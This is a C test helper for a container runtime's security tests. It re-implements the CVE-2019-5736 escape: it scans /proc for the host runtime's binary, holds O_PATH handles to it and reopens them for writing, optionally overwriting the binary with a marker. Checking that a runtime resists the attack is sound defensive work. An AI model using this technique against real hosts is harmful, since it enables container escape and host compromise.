/* exe-snatcher: a CVE-2019-5736 attacker, run inside a container by
 * tests/integration/security.bats. Built static (gcc -static): the busybox
 * rootfs has no libc.
 *
 * The attack: a process of the container opens /proc/<pid>/exe of a process
 * that is still (or again, through "#!/proc/self/exe") the runtime's binary,
 * keeps an O_PATH fd of it, and reopens it for writing through
 * /proc/self/fd/N once nothing executes it any more (ETXTBSY until then).
 * The target is named by the st_dev:st_ino the host sees for the runtime's
 * binary (fstat of an opened /proc/<pid>/exe reports the same pair).
 *
 *   exe-snatcher scan DEV:INO SECONDS STOPFILE [write]
 *     Until SECONDS pass or STOPFILE exists: open /proc/<every pid>/exe
 *     O_RDONLY and O_PATH; a file that is DEV:INO is a hit (its O_PATH fd is
 *     kept); every kept fd is reopened O_WRONLY through /proc/self/fd/N on
 *     each round. With "write", a successful O_WRONLY open overwrites the
 *     first bytes with a marker, as the real exploit does (only ever point
 *     this at a copy of the binary). Prints "READY" first, then one
 *     "HIT ..." line per success and a summary line:
 *       scans=N pids=N other_opened=N denied=N hit_rdonly=N hit_path=N hit_wronly=N written=N
 *     other_opened counts /proc/<pid>/exe of other files that could be
 *     opened: it proves that the scan really sees the other processes.
 *     Exit status 0 when there was no hit, 1 otherwise.
 *
 *   exe-snatcher probe PID DEV:INO
 *     One try at /proc/PID/exe: readlink, open O_RDONLY, open O_PATH (and
 *     reopen O_WRONLY). Prints one line per try, "readlink: ok <target>",
 *     "rdonly: EACCES", "path: ok dev:ino" ..., then "target: yes|no|unknown"
 *     (is /proc/PID/exe the DEV:INO file). Exit 0 when every try was denied
 *     (EACCES or EPERM), 1 when one succeeded, 2 for anything else (the pid
 *     is gone, ...). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MARKER "MINIRUN-EXE-SNATCHED"
#define MAX_KEPT 64
#define MAX_REPORTED 5 /* HIT lines per kind */

static dev_t target_dev;
static ino_t target_ino;

static void say(const char *fmt, ...)
{
	char buf[1024];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(buf, sizeof(buf), fmt, ap);
	va_end(ap);
	if (n > (int)sizeof(buf) - 1)
		n = sizeof(buf) - 1;
	/* unbuffered: the test reads the file while we run */
	if (write(STDOUT_FILENO, buf, (size_t)n) < 0)
		_exit(3);
}

static int parse_target(const char *s)
{
	unsigned long long dev, ino;
	char *end;

	dev = strtoull(s, &end, 10);
	if (*end != ':')
		return -1;
	ino = strtoull(end + 1, &end, 10);
	if (*end != '\0')
		return -1;
	target_dev = (dev_t)dev;
	target_ino = (ino_t)ino;
	return 0;
}

static int is_target(int fd)
{
	struct stat st;

	return fstat(fd, &st) == 0 && st.st_dev == target_dev && st.st_ino == target_ino;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void comm_of(const char *pid, char *buf, size_t size)
{
	char path[64];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	buf[0] = '\0';
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	n = read(fd, buf, size - 1);
	close(fd);
	if (n < 0)
		n = 0;
	buf[n] = '\0';
	buf[strcspn(buf, "\n")] = '\0';
}

/* Reopen an O_PATH fd of the target for writing; with `write_it`, overwrite
 * its first bytes. 1 when the open worked. */
static int try_write(int path_fd, int write_it, unsigned long *written)
{
	char p[64];
	int fd;

	snprintf(p, sizeof(p), "/proc/self/fd/%d", path_fd);
	fd = open(p, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	if (write_it && pwrite(fd, MARKER, sizeof(MARKER) - 1, 0) == (ssize_t)(sizeof(MARKER) - 1))
		(*written)++;
	close(fd);
	return 1;
}

/* Try every kept fd for writing; one that opened is done with (closed and
 * dropped: one overwrite is the whole exploit). */
static void retry_kept(int *kept, int *n_kept, int write_it, unsigned long *hit_wr, unsigned long *written)
{
	for (int i = 0; i < *n_kept; i++) {
		if (!try_write(kept[i], write_it, written))
			continue;
		if ((*hit_wr)++ < MAX_REPORTED)
			say("HIT wronly fd=%d%s\n", kept[i], write_it ? " (overwritten)" : "");
		close(kept[i]);
		kept[i--] = kept[--*n_kept];
	}
}

static int scan(const char *target, double seconds, const char *stopfile, int write_it)
{
	unsigned long scans = 0, pids = 0, other = 0, denied = 0, hit_rd = 0, hit_path = 0, hit_wr = 0, written = 0;
	int kept[MAX_KEPT], n_kept = 0;
	pid_t self = getpid();
	double end;

	if (parse_target(target) < 0) {
		say("bad target %s: expected DEV:INO\n", target);
		return 2;
	}
	/* pid 1 of a pid namespace would keep the exec'd processes' zombies */
	signal(SIGCHLD, SIG_IGN);
	say("READY\n");
	end = now() + seconds;
	while (now() < end && access(stopfile, F_OK) < 0) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		if (d == NULL) {
			say("opendir /proc: %s\n", strerror(errno));
			return 2;
		}
		scans++;
		while ((e = readdir(d)) != NULL) {
			char path[300], comm[32];
			int fd;

			if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == self)
				continue;
			pids++;
			snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd >= 0) {
				if (is_target(fd)) {
					if (hit_rd++ < MAX_REPORTED) {
						comm_of(e->d_name, comm, sizeof(comm));
						say("HIT rdonly pid=%s comm=%s\n", e->d_name, comm);
					}
				} else {
					other++;
				}
				close(fd);
			} else if (errno == EACCES || errno == EPERM) {
				denied++;
			}
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			if (!is_target(fd)) {
				close(fd);
				continue;
			}
			if (hit_path++ < MAX_REPORTED) {
				comm_of(e->d_name, comm, sizeof(comm));
				say("HIT path pid=%s comm=%s\n", e->d_name, comm);
			}
			if (n_kept < MAX_KEPT)
				kept[n_kept++] = fd;
			else
				close(fd);
		}
		closedir(d);
		retry_kept(kept, &n_kept, write_it, &hit_wr, &written);
	}
	/* one last try: the exec'd binary may have exited only now */
	retry_kept(kept, &n_kept, write_it, &hit_wr, &written);
	say("scans=%lu pids=%lu other_opened=%lu denied=%lu hit_rdonly=%lu hit_path=%lu hit_wronly=%lu written=%lu\n",
	    scans, pids, other, denied, hit_rd, hit_path, hit_wr, written);
	return hit_rd || hit_path || hit_wr ? 1 : 0;
}

static const char *errname(int e)
{
	switch (e) {
	case EACCES: return "EACCES";
	case EPERM: return "EPERM";
	case ENOENT: return "ENOENT";
	case ESRCH: return "ESRCH";
	case ETXTBSY: return "ETXTBSY";
	default: return strerror(e);
	}
}

/* 0 denied, 1 allowed, 2 other error */
static int verdict(int ok, int e)
{
	if (ok)
		return 1;
	return e == EACCES || e == EPERM ? 0 : 2;
}

static int probe(const char *pid, const char *target)
{
	char path[64], buf[4096], fdp[64];
	int worst = 0, v, fd, is_tgt = -1;
	ssize_t n;

	if (parse_target(target) < 0) {
		say("bad target %s: expected DEV:INO\n", target);
		return 2;
	}
	snprintf(path, sizeof(path), "/proc/%s/exe", pid);

	n = readlink(path, buf, sizeof(buf) - 1);
	v = verdict(n >= 0, errno);
	if (n >= 0) {
		buf[n] = '\0';
		say("readlink: ok %s\n", buf);
	} else {
		say("readlink: %s\n", errname(errno));
	}
	worst = v > worst ? v : worst;

	fd = open(path, O_RDONLY | O_CLOEXEC);
	v = verdict(fd >= 0, errno);
	if (fd >= 0) {
		is_tgt = is_target(fd);
		say("rdonly: ok\n");
		close(fd);
	} else {
		say("rdonly: %s\n", errname(errno));
	}
	worst = v > worst ? v : worst;

	fd = open(path, O_PATH | O_CLOEXEC);
	v = verdict(fd >= 0, errno);
	if (fd >= 0) {
		int w;
		is_tgt = is_target(fd);
		say("path: ok\n");
		snprintf(fdp, sizeof(fdp), "/proc/self/fd/%d", fd);
		w = open(fdp, O_WRONLY | O_CLOEXEC);
		say("wronly: %s\n", w >= 0 ? "ok" : errname(errno));
		if (w >= 0)
			close(w);
		close(fd);
	} else {
		say("path: %s\n", errname(errno));
	}
	worst = v > worst ? v : worst;
	say("target: %s\n", is_tgt < 0 ? "unknown" : is_tgt ? "yes" : "no");
	/* an allowed open of another file is not a denial, but not a hit either */
	return worst;
}

int main(int argc, char **argv)
{
	if (argc >= 5 && strcmp(argv[1], "scan") == 0)
		return scan(argv[2], atof(argv[3]), argv[4], argc > 5 && strcmp(argv[5], "write") == 0);
	if (argc == 4 && strcmp(argv[1], "probe") == 0)
		return probe(argv[2], argv[3]);
	fprintf(stderr, "usage: exe-snatcher scan DEV:INO SECONDS STOPFILE [write]\n"
			"       exe-snatcher probe PID DEV:INO\n");
	return 2;
}
